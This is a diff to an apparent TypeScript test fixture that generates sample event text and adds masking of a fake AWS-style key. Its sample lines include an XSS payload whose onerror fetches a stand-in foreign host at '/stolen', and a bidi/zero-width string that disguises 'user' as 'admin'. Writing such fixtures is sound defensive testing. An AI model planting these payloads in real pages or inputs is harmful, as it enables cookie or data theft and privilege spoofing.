@@ -3,6 +3,8 @@ import { FOREIGN_HOST } from './events.ts';
 
 const PAGES = 2;
 const SECRET = 'corp.example';
+/** In the shape of a key, and none. */
+export const VALUE = 'AKIA-not-a-key-889';
 const DAY_MS = 86_400_000;
 
 /** Hostile lines among plain ones; three of each page match. */
@@ -12,15 +14,21 @@ const LINES = [
   `<img src=x onerror="fetch('${FOREIGN_HOST}/stolen')"> <script>window.hacked = true</script>`,
   'access_level = "user\u202e \u2066// admin\u2069 \u2066"; zero\u200bwidth \u0007',
   `<mark>not ours</mark> &lt;b&gt; ${'a1b2c3d4'.repeat(40)}`,
-  '# Доступ к стенду: пароль не-настоящий',
+  `# Доступ к стенду: ${VALUE}`,
   '',
 ];
 
 /** The kept text of an event, of so many lines. */
-export function makeEventText(event: EventRow, page: number | undefined, lines: number): EventText {
+export function makeEventText(
+  event: EventRow,
+  { page, revealed = false }: { page?: number; revealed?: boolean },
+  lines: number,
+): EventText {
   const number = Math.min(page ?? 0, PAGES - 1);
   const count = Math.ceil(lines / PAGES);
-  const textOf = (at: number) => Array.from({ length: count }, (_, line) => LINES[(line + at) % LINES.length] ?? '').join('\n') + '\n';
+  const masked = (line: string) => (revealed ? line : line.replace(VALUE, 'AKIA…889'));
+  const textOf = (at: number) =>
+    Array.from({ length: count }, (_, line) => masked(LINES[(line + at) % LINES.length] ?? '')).join('\n') + '\n';
   const texts = Array.from({ length: PAGES }, (_, at) => textOf(at));
   const places = texts.flatMap((text, at) =>
     [...text.matchAll(/corp\.example/g)].slice(0, 3).map(({ index }) => ({ page: at, start: index, end: index + SECRET.length })),
